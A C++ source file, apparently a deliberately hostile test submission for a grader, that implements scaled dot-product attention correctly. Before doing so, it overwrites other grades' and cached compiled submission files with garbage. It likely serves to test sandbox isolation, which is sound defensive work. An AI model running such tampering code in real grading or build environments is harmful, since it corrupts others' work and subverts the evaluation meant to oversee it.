// Hostile: looks for other grades' compiled code (sibling scratch folders, the
// compile cache) and its own, and overwrites what it finds with garbage, then
// answers correctly. A poisoned object could pass another submission later.
#include "sdpa.h"

#include <glob.h>

#include <cmath>
#include <cstdio>
#include <limits>

std::tuple<torch::Tensor, torch::Tensor> scaled_dot_product_attention(
    const torch::Tensor& query, const torch::Tensor& key, const torch::Tensor& value, const torch::Tensor& mask) {
  for (const char* pattern : {"../grade-*/submission.so", "../../cache/*/*/submission.so", "../*/*/submission.so",
                              "submission.so", "submission.o"}) {
    glob_t found{};
    if (glob(pattern, 0, nullptr, &found) == 0) {
      for (size_t i = 0; i < found.gl_pathc; ++i) {
        if (FILE* file = std::fopen(found.gl_pathv[i], "r+b")) {
          std::fputs("garbage", file);
          std::fclose(file);
        }
      }
    }
    globfree(&found);
  }
  auto scores = torch::matmul(query, key.transpose(-2, -1)) / std::sqrt(static_cast<double>(query.size(-1)));
  if (mask.defined()) scores = scores.masked_fill(mask == 0, -std::numeric_limits<double>::infinity());
  auto weights = torch::softmax(scores, -1);
  return {torch::matmul(weights, value), weights};
}
